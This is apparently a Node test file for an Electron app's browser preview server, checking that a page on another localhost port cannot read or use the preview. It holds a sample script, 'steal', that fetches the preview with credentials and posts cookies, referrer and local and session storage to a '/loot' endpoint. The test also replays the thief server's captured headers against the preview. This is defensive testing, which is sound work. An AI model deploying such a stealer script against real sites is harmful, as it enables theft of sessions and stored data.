// The preview against a page on another port of this computer, in a real Chromium. To a browser all ports of a host are one site:
// they share cookies, and SameSite does not part them. What such a page's server sees of the browser that uses the preview must
// not let it use the preview.

import assert from 'node:assert/strict';
import { once } from 'node:events';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, test, type TestContext } from 'node:test';

import type { Page } from 'playwright-core';

import { bundlePreview } from '../../../build.mjs';
import { startPreview, type Preview } from '../../../desktop/preview/preview.ts';
import type { WindowApi } from '../../../shared/window/ipc.ts';
import { findChromium, launchChromium } from '../../chromium.ts';
import { exchange } from '../../client.ts';

/** Inside the page. */
declare const window: { readonly electron: WindowApi };

const program = findChromium();

async function openPreview(t: TestContext): Promise<Preview> {
  const folder = mkdtempSync(join(tmpdir(), 'invoify-theft-'));
  // Without the window's code the page has only `window.electron`.
  const files = new Map([...await bundlePreview({ minify: false }), ['window.js', Buffer.of()]]);
  const preview = await startPreview({ files, dataFolder: join(folder, 'data'), version: '1.2.3' }, { log: () => {}, nowMs: Date.now });
  t.after(async () => {
    await preview.close();
    rmSync(folder, { recursive: true, force: true });
  });
  return preview;
}

interface Thief {
  readonly origin: string;
  /** What browsers sent it, and what its pages reported. */
  readonly seen: { readonly headers: IncomingHttpHeaders; readonly body: string }[];
}

/** A server on another port of the preview's host whose page reports everything that it can find. */
async function openThief(t: TestContext, victim: string): Promise<Thief> {
  const seen: { headers: IncomingHttpHeaders; body: string }[] = [];
  const server = createServer((request, response) => {
    void request.toArray().then((chunks) => {
      seen.push({ headers: request.headers, body: Buffer.concat(chunks as Buffer[]).toString() });
      response.setHeader('content-type', request.url === '/' ? 'text/html' : 'text/javascript')
        .end(request.url === '/' ? '<script src="/steal.js"></script>' : steal);
    });
  });
  const steal = `(async () => {
    const asked = [];
    for (const [path, options] of [
      ['/call/sync.getStatus', { method: 'POST', headers: { 'content-type': 'application/json' } }],
      ['/call/sync.getStatus', { method: 'POST', mode: 'no-cors' }], ['/events', { mode: 'no-cors' }], ['/', { mode: 'no-cors' }],
    ]) {
      asked.push(await fetch(${JSON.stringify(victim)} + path, { ...options, credentials: 'include', signal: AbortSignal.timeout(500) })
        .then((answer) => answer.text()).catch(String));
    }
    const found = { cookie: document.cookie, referrer: document.referrer, asked, stored: [{ ...localStorage }, { ...sessionStorage }] };
    await fetch('/loot', { method: 'POST', body: JSON.stringify(found) });
    document.title = 'done';
  })()`;
  await once(server.listen(0, '127.0.0.1'), 'listening');
  t.after(() => {
    server.close();
    server.closeAllConnections();
  });
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen };
}

async function useWindow(page: Page): Promise<void> {
  const status = await page.evaluate(() => window.electron.sync.getStatus());
  assert.equal(status.state, 'never_synced');
}

describe('a page on another port of the same computer', { skip: program.missing ?? false }, () => {
  test('learns nothing with which the preview could be used', async (t) => {
    const preview = await openPreview(t);
    const thief = await openThief(t, preview.origin);
    assert(program.found !== null);
    const browser = await launchChromium(program.found);
    t.after(() => browser.close());
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(preview.newLink());
    await useWindow(page);

    // In a tab of its own, and in the tab where the preview was.
    for (const tab of [await context.newPage(), page]) {
      await tab.goto(thief.origin);
      await tab.waitForFunction('document.title === "done"');
    }
    const loot = thief.seen.map(({ body }) => body).filter((body) => body.startsWith('{'));
    assert.equal(loot.length, 2);
    for (const found of loot) assert.doesNotMatch(found, /never_synced|<!doctype|key=/i, 'the page itself read the preview');

    // Its server can send any header to the preview, also those that no page may set.
    for (const { headers } of thief.seen) {
      for (const [method, path] of [['POST', '/call/sync.getStatus'], ['GET', '/events']] as const) {
        const { host: _host, 'content-length': _length, ...sent } = headers;
        const { status } = await exchange({ url: preview.origin }, method, path, {
          ...Object.fromEntries(Object.entries(sent).map(([name, value]) => [name, String(value)])),
          origin: preview.origin, 'content-type': 'application/json', 'sec-fetch-site': 'same-origin',
        });
        assert.equal(status, 403, `${method} ${path} with ${JSON.stringify(headers)}`);
      }
    }
    await page.goBack();
    await useWindow(page);
  });
});

describe('a tab', { skip: program.missing ?? false }, () => {
  test('is refused as long as it has no link, and let in as soon as it is given one', async (t) => {
    const preview = await openPreview(t);
    assert(program.found !== null);
    const browser = await launchChromium(program.found);
    t.after(() => browser.close());
    const page = await browser.newPage();
    await page.goto(preview.origin);
    await page.getByText('Open the preview with the link that it printed.').waitFor();
    await page.goto(preview.newLink());
    await page.waitForFunction('window.electron && location.hash === ""');
    await useWindow(page);
    await page.reload();
    await useWindow(page);
  });
});
